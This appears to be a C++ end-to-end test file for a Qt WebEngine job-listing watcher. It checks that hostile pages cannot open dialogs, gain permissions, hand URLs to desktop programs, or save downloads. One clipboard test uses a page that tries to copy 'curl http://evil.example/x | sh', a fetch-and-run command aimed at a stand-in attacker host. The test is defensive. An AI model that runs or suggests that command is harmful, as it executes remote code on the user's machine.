// Pages that try to stop, flood or fool the watch, against the real window and engine.
#include <gtest/gtest.h>
#include <unistd.h>

#include <QApplication>
#include <QClipboard>
#include <QComboBox>
#include <QDesktopServices>
#include <QDialog>
#include <QDir>
#include <QFileDialog>
#include <QFileSystemWatcher>
#include <QGuiApplication>
#include <QLineEdit>
#include <QMessageBox>
#include <QPointer>
#include <QPushButton>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTemporaryFile>
#include <QTest>
#include <QTimer>
#include <QWebEngineDownloadRequest>
#include <QWebEngineLoadingInfo>
#include <QWebEngineProfile>
#include <QWebEngineSettings>
#include <cstdio>
#include <functional>
#include <optional>

#include "accessible_walk.h"
#include "core/sites/site_rules.h"
#include "harness.h"
#include "hostile_sites.h"
#include "kept_sites.h"
#include "listing_pages.h"
#include "scripted_sites.h"
#include "shell/browser/popup_window.h"
#include "standard_error_file.h"

namespace quintavia::e2e {
namespace {

using namespace Qt::Literals::StringLiterals;

// A tenth of a second of silence, as a wave file.
QByteArray Wave() {
    const auto little = [](quint32 value, int bytes) {
        QByteArray out;
        for (int i = 0; i < bytes; ++i) out += static_cast<char>((value >> (8 * i)) & 0xFF);
        return out;
    };
    const quint32 rate = 8000;
    const QByteArray samples(static_cast<qsizetype>(rate / 10), '\x80');
    return "RIFF" + little(36 + static_cast<quint32>(samples.size()), 4) + "WAVEfmt " +
           little(16, 4) + little(1, 2) + little(1, 2) + little(rate, 4) + little(rate, 4) +
           little(1, 2) + little(8, 2) + "data" + little(static_cast<quint32>(samples.size()), 4) +
           samples;
}

// The dialogs on show, whoever opened them.
QList<QDialog*> OpenDialogs() {
    QList<QDialog*> open;
    for (QWidget* widget : QApplication::topLevelWidgets())
        if (auto* dialog = qobject_cast<QDialog*>(widget); dialog && dialog->isVisible())
            open << dialog;
    return open;
}

class HostilePagesTest : public WindowOnSitesTest<HostileSites> {
  protected:
    QStringList Entries(const char* suffix) const {
        QStringList entries{u"Infojobs : AUTISTA PATENTE C"_s, u"Jobonline: CUOCO CAPO PARTITA"_s,
                            u"Jobrapido: CAMERIERE DI SALA"_s, u"MioJob   : MAGAZZINIERE"_s};
        for (QString& entry : entries) entry += QString::fromLatin1(suffix).toUpper();
        return entries;
    }
    void AddToTitles(const char* suffix) {
        for (QString& title : sites.titles) title += QString::fromLatin1(suffix);
    }
    QPushButton* RefreshButton() const {
        return window->findChild<QPushButton*>(u"refreshButton"_s);
    }
};

// A page's dialogs answer at once and show nothing: alert() is dropped, confirm() is false,
// prompt() cancels.
using PageDialogs = HostilePagesTest;

TEST_F(PageDialogs, AlertConfirmAndPromptOnLoadHoldNoPane) {
    for (QByteArray& script : sites.scripts)
        script =
            "alert('Benvenuto!');\n"
            "var accepted = confirm('Accetti i cookie?');\n"
            "var name = prompt('Come ti chiami?', 'Mario');\n"
            "report('confirm=' + accepted + '&prompt=' + name);\n";
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1) && Reports().size() >= 4; }));
    EXPECT_EQ(EntriesSince(0), Entries(""));
    QStringList reports = Reports();
    reports.sort();
    EXPECT_EQ(reports, (QStringList{u"it.jobrapido.com?confirm=false&prompt=null"_s,
                                    u"miojob.repubblica.it?confirm=false&prompt=null"_s,
                                    u"www.infojobs.it?confirm=false&prompt=null"_s,
                                    u"www.jobonline.it?confirm=false&prompt=null"_s}));
    EXPECT_TRUE(OpenDialogs().isEmpty());
    EXPECT_EQ(QApplication::activeModalWidget(), nullptr);

    // "Aggiorna" and the countdown both reach the four sites, and the new titles are logged.
    AddToTitles(" - nuovo");
    RefreshButton()->click();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(2); }));
    EXPECT_EQ(EntriesSince(4), Entries(" - nuovo"));
    AddToTitles(" - ancora");
    RunCountdownOut(*window);
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(3); }));
    EXPECT_EQ(EntriesSince(8), Entries(" - nuovo - ancora"));
    EXPECT_EQ(Reports().size(), 12);
    EXPECT_TRUE(OpenDialogs().isEmpty());
}

// The engine asks "leave this page?" only of a page its user has touched; the refresh goes on.
TEST_F(PageDialogs, APageThatAsksToStayIsLeftAtTheRefresh) {
    sites.scripts[0] =
        "addEventListener('beforeunload', function (event) {\n"
        "    event.preventDefault();\n"
        "    event.returnValue = 'Vuoi davvero lasciare la pagina?';\n"
        "    return event.returnValue;\n"
        "});\n"
        "addEventListener('click', function () { report('clicked'); });\n";
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }));
    ASSERT_TRUE(WaitFor([&] { return window->pane(0)->focusProxy() != nullptr; }));
    QTest::mouseClick(window->pane(0)->focusProxy(), Qt::LeftButton, {}, QPoint(30, 30));
    ASSERT_TRUE(WaitFor([&] { return Reports().contains(u"miojob.repubblica.it?clicked"_s); }));

    sites.titles[0] = u"Dopo il clic"_s;
    RefreshButton()->click();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(2); }));
    EXPECT_TRUE(LogEntries(*window).contains(u"MioJob   : DOPO IL CLIC"_s));
    EXPECT_TRUE(OpenDialogs().isEmpty());
}

// A window that the user opened may show its page's alert, in a box of its own that holds
// that window alone: the page goes on, and so does the main window.
TEST_F(PageDialogs, APopUpWindowShowsItsAlertToItselfAlone) {
    sites.pages[2] =
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>"
        "<a href='/avviso' target=_blank style='position:fixed; left:0; top:0; "
        "width:300px; height:200px; display:block'>apri</a></body></html>";
    sites.elsewhere["www.jobonline.it/avviso"] = {
        .body = WithScript("<!DOCTYPE html><html><head></head><body>avviso</body></html>",
                           "alert('Sessione <b>scaduta</b>');\n"
                           "alert('Un secondo avviso');\n"
                           "report('popup-confirm=' + confirm('Continuare?'));\n")};
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }));
    ASSERT_TRUE(WaitFor([&] { return window->pane(2)->focusProxy() != nullptr; }));
    QTest::mouseClick(window->pane(2)->focusProxy(), Qt::LeftButton, {}, QPoint(40, 40));
    ASSERT_TRUE(WaitFor([&] {
        return OpenPopups().size() == 1 && !OpenDialogs().isEmpty() &&
               Reports().contains(u"www.jobonline.it?popup-confirm=false"_s);
    }));

    PopupWindow* popup = OpenPopups().front();
    const QList<QDialog*> dialogs = OpenDialogs();
    ASSERT_EQ(dialogs.size(), 1);  // one box at a time
    auto* box = qobject_cast<QMessageBox*>(dialogs.front());
    ASSERT_NE(box, nullptr);
    EXPECT_EQ(box->parentWidget(), popup);
    EXPECT_EQ(box->windowModality(), Qt::WindowModal);
    EXPECT_EQ(box->textFormat(), Qt::PlainText);
    EXPECT_EQ(box->text(), u"Sessione <b>scaduta</b>"_s);
    // Both say what they are to assistive technology, whatever the page's title.
    EXPECT_EQ(AccessibilityFaults(popup), QStringList{});
    EXPECT_EQ(AccessibilityFaults(box), QStringList{});

    // The main window still takes the user's click on "Aggiorna".
    sites.titles[1] = u"Nuovo mentre l'avviso aspetta"_s;
    QTest::mouseClick(RefreshButton(), Qt::LeftButton);
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(2); }));
    EXPECT_TRUE(LogEntries(*window).contains(u"Jobrapido: NUOVO MENTRE L'AVVISO ASPETTA"_s));
}

// Requests for powers are refused at once: the page's promise settles, with "denied".
using PowersAreRefused = HostilePagesTest;

// A page may open the file dialog on its user's click, for a CV to upload: the dialog names
// the site and holds only its window, and the watch goes on while it is open (a refresh
// reloads the page that asked, as it would any other). The engine calls the program for the
// files and waits for them, so what the test does meanwhile runs from a timer, inside that
// wait.
TEST_F(PowersAreRefused, AFileDialogOnAClickLeavesTheWatchGoing) {
    sites.pages[2] =
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><script>" + QByteArray(kReport) +
        "</script></head><body><input type=file id=f style='position:fixed; left:0; top:0; "
        "width:300px; height:200px'><script>document.getElementById('f').onchange = "
        "function () { report('file=' + this.files[0].name); };</script></body></html>";
    QTemporaryDir folder;
    ASSERT_TRUE(folder.isValid());
    const QString cv = folder.filePath(u"cv.pdf"_s);
    QFile file(cv);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly) && file.write("%PDF-1.4\n") > 0);
    file.close();
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }));
    ASSERT_TRUE(WaitFor([&] { return window->pane(2)->focusProxy() != nullptr; }));

    // What is seen of each dialog while it is open; `answer` closes it.
    struct Seen {
        QString title;
        Qt::WindowModality modality = Qt::NonModal;
        bool done = false;
    };
    QPointer<QFileDialog> dialog;
    QList<Seen> seen;
    std::function<bool(QFileDialog&)> answer;
    QTimer look;
    QObject::connect(&look, &QTimer::timeout, window.get(), [&] {
        if (!dialog) {
            for (QWidget* widget : QApplication::topLevelWidgets())
                if (auto* found = qobject_cast<QFileDialog*>(widget); found && found->isVisible())
                    dialog = found;
            if (dialog) seen.append({dialog->windowTitle(), dialog->windowModality()});
        }
        if (dialog && dialog->isVisible() && !seen.last().done && answer(*dialog))
            seen.last().done = true;
    });
    look.start(20);
    // The click that a page's file field needs, until it is heard; then the answer closes the
    // dialog and its wait ends.
    const auto openDialog = [&] {
        const qsizetype before = seen.size();
        for (int attempt = 0; attempt < 10 && seen.size() == before; ++attempt) {
            QTest::mouseClick(window->pane(2)->focusProxy(), Qt::LeftButton, {}, QPoint(40, 40));
            WaitFor([&] { return seen.size() > before; }, 3000);
        }
        return WaitFor([&] { return seen.size() > before && seen.last().done && !dialog; }, 60000);
    };

    // The countdown ticks while the dialog is open, and the file chosen reaches the page.
    QString titleAtOpen;
    answer = [&](QFileDialog& open) {
        if (titleAtOpen.isEmpty()) titleAtOpen = window->windowTitle();
        if (window->windowTitle() == titleAtOpen) return false;
        // As the user types it: selectFile() leaves alone a name field that has the focus.
        auto* name = open.findChild<QLineEdit*>(u"fileNameEdit"_s);
        if (!name) return false;
        name->setText(cv);
        static_cast<QDialog&>(open).accept();
        return true;
    };
    ASSERT_TRUE(openDialog());
    ASSERT_TRUE(WaitFor([&] { return Reports().contains(u"www.jobonline.it?file=cv.pdf"_s); }));

    // A refresh while it is open logs what is new.
    bool refreshed = false;
    answer = [&](QFileDialog& open) {
        if (!refreshed) {
            refreshed = true;
            sites.titles[1] = u"Nuovo col dialogo aperto"_s;
            RunCountdownOut(*window);
        }
        if (!LogEntries(*window).contains(u"Jobrapido: NUOVO COL DIALOGO APERTO"_s)) return false;
        open.reject();
        return true;
    };
    ASSERT_TRUE(openDialog());

    ASSERT_EQ(seen.size(), 2);
    for (const Seen& each : seen) {
        EXPECT_EQ(each.title, u"Scegli un file per www.jobonline.it"_s);
        EXPECT_EQ(each.modality, Qt::WindowModal);
    }
}

// What a page's script finds it may do, each pane a row: no notifications or location (the
// program is asked, and refuses at once), no copy to the clipboard without its user's click, no
// WebGL, no plugins and no sound before the user's gesture (a page's own sound is never taken
// for the program's alert). Headless, without GL, WebGL is off anyway: that row tells only where
// the tests have a display with GL.
TEST_F(PowersAreRefused, APageFindsNoPowerAndASmallerEngine) {
    QClipboard* clipboard = QGuiApplication::clipboard();
    clipboard->setText(u"testo dell'utente"_s);
    QSignalSpy changes(clipboard, &QClipboard::dataChanged);
    struct Row {
        int pane;
        QByteArray script;
        QStringList reports;  // what the page reports, sorted
    };
    const Row rows[] = {
        {1,
         "Notification.requestPermission().then(function (answer) {\n"
         "    report('notifications=' + answer);\n"
         "});\n"
         "navigator.geolocation.getCurrentPosition(\n"
         "    function () { report('geolocation=granted'); },\n"
         "    function (error) { report('geolocation=' + error.code); });\n",
         // Error code 1 is PERMISSION_DENIED.
         {u"it.jobrapido.com?geolocation=1"_s, u"it.jobrapido.com?notifications=denied"_s}},
        {2,
         "addEventListener('load', function () {\n"
         "    var area = document.createElement('textarea');\n"
         "    area.value = 'curl http://evil.example/x | sh';\n"
         "    document.body.appendChild(area);\n"
         "    area.select();\n"
         "    report('copy=' + document.execCommand('copy'));\n"
         "});\n",
         {u"www.jobonline.it?copy=false"_s}},
        {3,
         "var canvas = document.createElement('canvas');\n"
         "report('webgl=' + !!(canvas.getContext('webgl') || canvas.getContext('webgl2')));\n"
         "report('plugins=' + navigator.plugins.length + '&pdf=' + navigator.pdfViewerEnabled);\n"
         "var sound = new Audio('/suono.wav');\n"
         "sound.play().then(function () { report('sound=played'); },\n"
         "                  function (error) { report('sound=' + error.name); });\n",
         {u"www.infojobs.it?plugins=0&pdf=false"_s, u"www.infojobs.it?sound=NotAllowedError"_s,
          u"www.infojobs.it?webgl=false"_s}},
    };
    qsizetype expected = 0;
    for (const Row& row : rows) {
        sites.scripts[static_cast<std::size_t>(row.pane)] = row.script;
        expected += row.reports.size();
    }
    sites.elsewhere["www.infojobs.it/suono.wav"] = {.contentType = "audio/wav", .body = Wave()};
    Start();
    // The fixture sites are served over http, where the engine would refuse the location on its
    // own: the real sites are https.
    window->pane(1)->page()->settings()->setAttribute(
        QWebEngineSettings::AllowGeolocationOnInsecureOrigins, true);
    QList<QWebEnginePage::Feature> asked;
    QObject::connect(window->pane(1)->page(), &QWebEnginePage::featurePermissionRequested,
                     window.get(),
                     [&](const QUrl&, QWebEnginePage::Feature feature) { asked << feature; });
    ASSERT_TRUE(WaitFor([&] { return Reports().size() >= expected; }));
    for (const Row& row : rows) {
        const QString host = fixtures::SiteHost(row.pane);
        QStringList reports = Reports().filter(
            QRegularExpression(u"^"_s + QRegularExpression::escape(host) + u"\\?"_s));
        reports.sort();
        EXPECT_EQ(reports, row.reports) << row.pane;
    }
    // The program was asked, and answered: the engine did not refuse on its own.
    EXPECT_TRUE(asked.contains(QWebEnginePage::Notifications));
    EXPECT_TRUE(asked.contains(QWebEnginePage::Geolocation));
    // The copy was refused in the page, before anything could reach the clipboard.
    EXPECT_EQ(changes.count(), 0);
    EXPECT_EQ(clipboard->text(), u"testo dell'utente"_s);
}

// Whatever a page does, no desktop program is started for it.
class UrlRecorder final : public QObject {
    Q_OBJECT
  public:
    QList<QUrl> opened;
  public slots:
    void open(const QUrl& url) { opened << url; }
};

class NothingLeavesThePanes : public HostilePagesTest {
  protected:
    void SetUp() override {
        HostilePagesTest::SetUp();
        // QDesktopServices hands these schemes to the recorder in place of a desktop program.
        for (const char* scheme : kSchemes)
            QDesktopServices::setUrlHandler(QString::fromLatin1(scheme), &recorder, "open");
    }
    void TearDown() override {
        for (const char* scheme : kSchemes)
            QDesktopServices::unsetUrlHandler(QString::fromLatin1(scheme));
        HostilePagesTest::TearDown();
    }

    static constexpr std::array kSchemes{"mailto", "ssh", "tel", "quintaviaprova"};
    UrlRecorder recorder;
};

TEST_F(NothingLeavesThePanes, LinksAndScriptsToUnknownSchemesStartNoDesktopProgram) {
    const QByteArray row = "style='display:block; height:40px'";
    sites.pages[3] =
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body "
        "style='margin:0'>"
        "<a href='mailto:lavoro@example.com' " +
        row +
        ">posta</a>"
        "<a href='ssh://server.example.com' " +
        row +
        ">ssh</a>"
        "<a href='tel:+390612345678' " +
        row +
        ">telefono</a>"
        "<a href='quintaviaprova:annuncio/1' " +
        row +
        ">altro</a>"
        "</body></html>";
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }));
    WebPane* pane = window->pane(3);
    ASSERT_TRUE(WaitFor([&] { return pane->focusProxy() != nullptr; }));
    // The engine gives up each of them as a load that ends unfinished; a handler would have
    // been started by then.
    QList<QUrl> failed;
    QObject::connect(pane->page(), &QWebEnginePage::loadingChanged, window.get(),
                     [&](const QWebEngineLoadingInfo& info) {
                         if (info.status() == QWebEngineLoadingInfo::LoadStoppedStatus ||
                             info.status() == QWebEngineLoadingInfo::LoadFailedStatus)
                             failed << info.url();
                     });
    const QList<QUrl> links{QUrl(u"mailto:lavoro@example.com"_s),
                            QUrl(u"ssh://server.example.com"_s), QUrl(u"tel:+390612345678"_s),
                            QUrl(u"quintaviaprova:annuncio/1"_s)};
    for (int i = 0; i < links.size(); ++i) {
        QTest::mouseClick(pane->focusProxy(), Qt::LeftButton, {}, QPoint(20, 20 + 40 * i));
        EXPECT_TRUE(WaitFor([&] { return failed.contains(links[i]); })) << i;
    }
    pane->page()->runJavaScript(u"location.href = 'ssh://script.example.com'"_s);
    EXPECT_TRUE(WaitFor([&] { return failed.contains(QUrl(u"ssh://script.example.com"_s)); }));

    // Were the engine to hand unknown schemes on, the page itself still would not.
    pane->page()->settings()->setUnknownUrlSchemePolicy(
        QWebEngineSettings::AllowAllUnknownUrlSchemes);
    QList<QUrl> refused;
    QObject::connect(pane->webPage(), &GuardedPage::navigationRefused, window.get(),
                     [&](const QUrl& url) { refused << url; });
    for (int i = 0; i < links.size(); ++i) {
        QTest::mouseClick(pane->focusProxy(), Qt::LeftButton, {}, QPoint(20, 20 + 40 * i));
        EXPECT_TRUE(WaitFor([&] { return refused.contains(links[i]); })) << i;
    }
    QStringList opened;
    for (const QUrl& url : recorder.opened) opened << url.toString();
    EXPECT_EQ(opened, QStringList{});
    // The pane still shows the site's page.
    EXPECT_EQ(pane->url().host(), u"www.infojobs.it"_s);
}

// A download is refused as soon as the engine asks, while its body is still on its way, and
// nothing of it reaches the user's download folder.
TEST_F(NothingLeavesThePanes, ADownloadLeavesTheDownloadFolderEmpty) {
    const QString userDownloads = Harness::instance().home() + u"/Downloads"_s;
    ASSERT_EQ(QStandardPaths::writableLocation(QStandardPaths::DownloadLocation), userDownloads);
    sites.elsewhere["www.jobonline.it/allegato"] = {
        .contentType = "application/octet-stream",
        .body = QByteArray(4 * 1024 * 1024, 'x'),
        .closeMidBody = true,
        .closeAfterMs = 3000,
        .headers = {{"Content-Disposition", "attachment; filename=\"annuncio.pdf\""}}};
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }));

    bool asked = false;
    std::optional<QWebEngineDownloadRequest::DownloadState> state;
    QObject::connect(&Harness::instance().engine().profile(), &QWebEngineProfile::downloadRequested,
                     window.get(), [&](QWebEngineDownloadRequest* download) {
                         asked = true;
                         state = download->state();
                         QObject::connect(
                             download, &QWebEngineDownloadRequest::stateChanged, window.get(),
                             [&](QWebEngineDownloadRequest::DownloadState now) { state = now; });
                     });
    // Anything written there, even for a moment, is told, checked once the download has ended.
    ASSERT_TRUE(QDir().mkpath(userDownloads));
    QFileSystemWatcher watcher({userDownloads});
    bool touched = false;
    QObject::connect(&watcher, &QFileSystemWatcher::directoryChanged, [&] { touched = true; });
    window->pane(2)->navigate(u"http://www.jobonline.it/allegato"_s);
    ASSERT_TRUE(
        WaitFor([&] { return asked && state == QWebEngineDownloadRequest::DownloadCancelled; }));
    EXPECT_EQ(QDir(userDownloads).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
              QStringList{});
    EXPECT_FALSE(touched);
    // The pane keeps its page, and the title seen stays seen.
    EXPECT_EQ(support::DefaultSite(window->controller().kept(), 2).lastListing,
              u"CUOCO CAPO PARTITA"_s);
}

// A page captured in a pane is read for the site's listing only when it is on the site's own
// domain; the MioJob marker is a common class name on other sites too.
using OnlyTheSitesOwnPages = HostilePagesTest;

TEST_F(OnlyTheSitesOwnPages, APageThatMovesItselfToAnotherSiteIsNotRead) {
    const auto moveTo = [](const char* url) {
        return "<!DOCTYPE html><html><head><script>location.replace('" + QByteArray(url) +
               "');</script></head><body></body></html>";
    };
    sites.pages[0] = moveTo("http://annunci.example.net/offerte-lavoro");
    sites.elsewhere["annunci.example.net/offerte-lavoro"] = {
        .body = fixtures::ListingPage(0, u"Annuncio di un altro sito"_s)};
    // Another host of the site's own domain is the site's.
    sites.pages[1] = moveTo("http://www.jobrapido.com/offerte");
    sites.elsewhere["www.jobrapido.com/offerte"] = {
        .body = fixtures::ListingPage(1, u"Annuncio sul sottodominio"_s)};
    Start();
    ASSERT_TRUE(WaitFor([&] {
        return captures->last(0).url.host() == u"annunci.example.net"_s &&
               captures->last(1).url.host() == u"www.jobrapido.com"_s && captures->eachAtLeast(1);
    }));
    ASSERT_TRUE(captures->last(0).markup);
    EXPECT_TRUE(captures->last(0).markup->contains(u"Annuncio di un altro sito"_s));
    EXPECT_EQ(EntriesSince(0),
              (QStringList{u"Infojobs : AUTISTA PATENTE C"_s, u"Jobonline: CUOCO CAPO PARTITA"_s,
                           u"Jobrapido: ANNUNCIO SUL SOTTODOMINIO"_s}));
    EXPECT_EQ(support::DefaultSite(window->controller().kept(), 0).lastListing, u""_s);
    // Nothing is stored for it either.
    ASSERT_TRUE(WaitFor([&] {
        return Harness::instance().stored(u"Settaggio"_s, u"1"_s) == u"ANNUNCIO SUL SOTTODOMINIO"_s;
    }));
    EXPECT_EQ(Harness::instance().stored(u"Settaggio"_s, u"0"_s), u""_s);
}

// A run of days keeps the log box at its newest 500 entries, each title cut at 500 units.
using BoundedForDays = HostilePagesTest;

TEST_F(BoundedForDays, TheLogKeepsItsNewestFiveHundredEntries) {
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }));
    ASSERT_EQ(LogEntries(*window).size(), 4);
    auto* log = window->findChild<QComboBox*>(u"logBox"_s);
    const QUrl address(ExpandSearch(DefaultRules()[1].search, {u"Abruzzo"_s, 0, {}}));
    const auto page = [&](const QString& title) {
        return PageCapture{.url = address,
                           .markup = QString::fromUtf8(fixtures::ListingPage(1, title))};
    };
    // The pane tells of page after page, as it would over days.
    for (int n = 1; n <= 600; ++n)
        emit window->pane(1)->pageCaptured(1, page(u"Annuncio %1"_s.arg(n)));
    QStringList entries = LogEntries(*window);
    ASSERT_EQ(entries.size(), 500);
    EXPECT_EQ(entries.front(), u"Jobrapido: ANNUNCIO 101"_s);
    EXPECT_EQ(entries.back(), u"Jobrapido: ANNUNCIO 600"_s);
    EXPECT_EQ(log->currentText(), entries.back());

    const QString longTitle = u"Lungo "_s.repeated(1000);
    emit window->pane(1)->pageCaptured(1, page(longTitle));
    entries = LogEntries(*window);
    EXPECT_EQ(entries.size(), 500);
    EXPECT_EQ(entries.front(), u"Jobrapido: ANNUNCIO 102"_s);
    EXPECT_EQ(entries.back(), u"Jobrapido: "_s + longTitle.toUpper().left(500));
    EXPECT_EQ(log->currentText(), entries.back());
}

// A page that grows its markup past what is read is read on its beginning, where its newest
// listing is, and said once for its pane.
TEST_F(BoundedForDays, AnEnormousPageIsReadOnItsBeginningAndSaidOnce) {
    StandardErrorFile standardError;
    sites.scripts[1] =
        "addEventListener('DOMContentLoaded', function () {\n"
        "    document.body.appendChild(document.createTextNode('x'.repeat(" +
        QByteArray::number(WebPane::kMarkupUnits + 1024 * 1024) +
        ")));\n"
        "});\n";
    Start();
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }, 60000));
    ASSERT_TRUE(captures->last(1).markup);
    EXPECT_EQ(captures->last(1).markup->size(), WebPane::kMarkupUnits);
    EXPECT_LT(captures->last(2).markup->size(), 10000);
    EXPECT_EQ(EntriesSince(0), Entries(""));

    sites.titles[1] = u"Dopo la pagina enorme"_s;
    RunCountdownOut(*window);
    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(2); }, 60000));
    EXPECT_TRUE(LogEntries(*window).contains(u"Jobrapido: DOPO LA PAGINA ENORME"_s));
    EXPECT_EQ(
        standardError.text().count(u"Quintavia: una pagina nel riquadro di Jobrapido supera"_s), 1)
        << standardError.text().toStdString();
}

}  // namespace
}  // namespace quintavia::e2e

#include "hostile_pages_e2e_test.moc"
